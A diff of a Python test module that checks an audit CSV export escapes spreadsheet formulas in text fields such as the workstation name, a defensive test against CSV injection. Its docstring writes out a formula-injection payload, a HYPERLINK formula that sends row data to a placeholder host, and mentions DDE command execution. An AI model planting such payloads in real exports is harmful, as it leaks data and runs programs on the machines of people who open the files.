@@ -1,12 +1,14 @@
 """The audit export in CSV under a hostile pass: a formula in a text field (decision 0090).
 
-An officer knows their own password, so they can sign a kept (offline) decision file of
-their own making (decision 0062); its ``workstation`` is theirs to write, and the flush
-records the decision with that workstation in its audit entry's ``workstation`` column.
-Named ``=HYPERLINK("http://x.example/?"&B2,"open")``, the auditor who opened ``audit
-export --format csv`` in Excel or LibreOffice got a live formula (a link carrying the
-row's data away; ``=cmd|…`` runs a program where DDE is on). The CSV wrote every field
-raw: the report CSVs neutralised formulas, the audit CSV did not.
+An officer knows their own password, so they could sign a kept (offline) decision file of
+their own making (decision 0062) whose ``workstation`` the flush recorded in its audit
+entry's ``workstation`` column. The flush now refuses a desk name no computer has
+(services/kept_checks.py), but a record can still hold one: recorded before that check,
+or by a desk whose own name is odd (its live saves record it as it is). Named
+``=HYPERLINK("http://x.example/?"&B2,"open")``, the auditor who opened ``audit export
+--format csv`` in Excel or LibreOffice got a live formula (a link carrying the row's data
+away; ``=cmd|…`` runs a program where DDE is on). The CSV wrote every field raw: the
+report CSVs neutralised formulas, the audit CSV did not.
 
 Now a field that begins with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or an
 apostrophe gets one apostrophe more, and nothing else changes: a reader takes one leading
@@ -33,18 +35,16 @@ QUOTED = "'-looks quoted already"
 
 
 def _recorded_from(desk: Desk, rules: Any, workstation: str, booking: str) -> None:
-    """A decision kept by the officer under ``workstation``, then recorded by the flush
-    of a desk whose own name is the real one."""
+    """A decision recorded in the record under the desk name ``workstation`` (the
+    desk's own name for the time of that one save)."""
     ctx = desk.services.ctx
-    officer = desk.session("officer")  # signed in at the real desk
+    officer = desk.session("officer")
     real = ctx.workstation
-    ctx.workstation = workstation  # the file as its officer wrote and signed it
+    ctx.workstation = workstation
     try:
-        desk.services.sync.keep(officer, *honored(rules, booking=booking))
+        desk.services.decisions.create(officer, *honored(rules, booking=booking))
     finally:
         ctx.workstation = real
-    done = desk.services.sync.flush()
-    assert len(done.recorded) == 1 and done.refused == (), done
 
 
 def _unquoted(field: str) -> str:
@@ -69,7 +69,7 @@ def test_a_formula_in_an_audit_field_is_exported_as_text_and_read_back_exactly(
     assert not [field for row in body for field in row if field.startswith(FORMULA_LEADS)]
     entries = [dict(zip(COLUMNS, row, strict=True)) for row in body]
     marked = [(row["event"], row["workstation"]) for row in entries if row["workstation"] != real]
-    # Only the decisions recorded from the kept files carry the names their officer wrote.
+    # Only the two decisions recorded under those names carry them.
     assert marked == [("decision.created", "'" + FORMULA), ("decision.created", "'" + QUOTED)]
     # Read back as documented, every field is the record's, and the chain recomputes.
     stored = list(desk.store.audit.stream(count))
